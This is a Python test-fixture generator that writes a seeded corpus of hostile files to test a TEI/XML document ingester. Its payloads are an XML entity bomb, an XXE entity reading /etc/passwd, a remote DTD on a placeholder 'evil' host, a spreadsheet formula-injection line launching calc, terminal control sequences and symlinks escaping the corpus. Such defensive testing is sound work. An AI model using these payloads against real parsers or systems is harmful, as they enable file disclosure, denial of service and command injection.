"""A generator of hostile corpus files: empty, binary, wrongly encoded, malformed or malicious
XML, oversized, links out of the corpus, duplicates, odd names.  Deterministic (seeded)."""

from __future__ import annotations

import codecs
import os
import random
from pathlib import Path

LIMIT = 50_000  # the size limit the hostile build runs with; "oversized" files exceed it
TEI_HEAD = ('<?xml version="1.0" encoding="UTF-8"?>\n<TEI xmlns="http://www.tei-c.org/ns/1.0">'
            '<teiHeader/><text><body>')
TEI_DOC = ('<div type="document" xml:id="d{n}"><head>{n}. Memorandum of Conversation</head>'
           '<p>{body}</p></div>')


def _lower_words(rng: random.Random, n: int) -> str:
    # lowercase only: hostile text must not name people the good documents also name
    return " ".join("".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(
        rng.randint(1, 9))) for _ in range(n))


def _kinds(rng: random.Random, n: int) -> dict[str, bytes]:
    words = _lower_words(rng, rng.randint(0, 40))
    bomb = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                      for i in range(1, 10))
            + ']><TEI><text><body><div type="document" xml:id="d1"><p>&lol9;</p></div>'
            '</body></text></TEI>')
    xxe = ('<?xml version="1.0"?><!DOCTYPE TEI [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
           '<TEI><text><body><div type="document" xml:id="d1"><p>&x;</p></div></body></text>'
           '</TEI>')
    remote = ('<?xml version="1.0"?><!DOCTYPE TEI SYSTEM "http://192.0.2.1/evil.dtd">'
              '<TEI><text><body><div type="document" xml:id="d1"><p>x</p></div></body></text>'
              '</TEI>')
    deep = TEI_HEAD + "<div>" * (300 + n) + "x" + "</div>" * (300 + n) + "</body></text></TEI>"
    good_tei = TEI_HEAD + TEI_DOC.format(n=n, body=words) + "</body></text></TEI>"
    return {
        f"empty_{n}.txt": b"",
        f"binary_{n}.txt": rng.randbytes(rng.randint(1, 400)),
        f"nul_{n}.md": b"title\x00" + words.encode() + b"\x00\x00",
        f"latin1_{n}.txt": ("caf\xe9 " + words + " na\xefve").encode("latin-1"),
        f"shiftjis_{n}.txt": ("外交記録 " + words).encode("shift_jis"),
        f"utf16_nobom_{n}.txt": ("x " + words).encode("utf-16-le"),
        f"utf16_bom_{n}.txt": codecs.BOM_UTF16_LE + (words or "x").encode("utf-16-le"),
        f"truncated_{n}.xml": good_tei.encode()[: rng.randint(1, max(2, len(good_tei) - 10))],
        f"bomb_{n}.xml": bomb.encode(),
        f"xxe_{n}.xml": xxe.encode(),
        f"remote_dtd_{n}.xml": remote.encode(),
        f"deep_{n}.xml": deep.encode(),
        f"not_frus_{n}.xml": f"<catalog><item>{words}</item></catalog>".encode(),
        f"tei_ok_{n}.xml": good_tei.encode(),
        f"html_garbage_{n}.html": ("<html><body><p>" + words + "<div><<>>&&;").encode(),
        f"oversized_{n}.txt": b"a " * (LIMIT // 2 + 10 + n),
        f"formula_{n}.txt": (f"Title: =cmd|' /C calc'!A{n}\n\n+{words} -1+1 @SUM(1)").encode(),
        f"controls_{n}.txt": ("\x1b[31m" + words + "\x07\x08\r\r\n\u202e" + words).encode(),
        f"long_line_{n}.txt": ("w " * 5000).encode(),
        f"scan_{n}.pdf": b"%PDF-1.4\n" + rng.randbytes(50),
        f"noext_{n}": words.encode(),
    }


def write_hostile_corpus(corpus: Path, rounds: int, seed: int = 7) -> int:
    """Write ``rounds`` sets of every kind, plus links and duplicates; return the file count."""
    rng = random.Random(seed)
    corpus.mkdir(parents=True, exist_ok=True)
    outside = corpus.parent / "outside_secret.txt"
    outside.write_text("secret words that must not be read", encoding="utf-8")
    count = 0
    for n in range(rounds):
        folder = corpus / f"hostile_{n:02d}"
        folder.mkdir()
        for name, data in _kinds(rng, n).items():
            (folder / name).write_bytes(data)
            count += 1
        os.symlink(outside, folder / f"link_out_{n}.txt")
        os.symlink("../../", folder / f"dir_link_{n}")
        (folder / f"dup_empty_tei_{n}.xml").write_bytes((folder / f"tei_ok_{n}.xml").read_bytes())
        count += 3
    return count
